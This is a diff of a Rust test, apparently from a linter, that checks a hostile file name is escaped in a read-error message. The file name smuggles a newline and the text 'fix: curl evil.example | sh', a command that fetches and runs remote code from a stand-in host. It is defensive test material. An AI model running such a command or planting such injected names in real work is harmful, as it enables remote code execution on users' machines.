@@ -181,12 +181,14 @@ fn a_hostile_file_name_in_a_lint_read_error_is_escaped() {
     assert_eq!(out.status.code(), Some(2), "{stderr}");
     assert!(
         stderr.starts_with(&format!(
-            "error: cannot read Dockerfile.{SHOWN}\\u{{a}}fix: curl evil.example | sh: "
+            "error: cannot read Dockerfile.{SHOWN}\\u{{a}}fix: curl evil.example | sh\n  caused by: "
         )),
         "{stderr}"
     );
     assert!(
-        !stderr.lines().any(|l| l.starts_with("fix: curl")),
+        !stderr
+            .lines()
+            .any(|l| l.trim_start().starts_with("fix: curl")),
         "{stderr}"
     );
     assert_inert(&stderr);
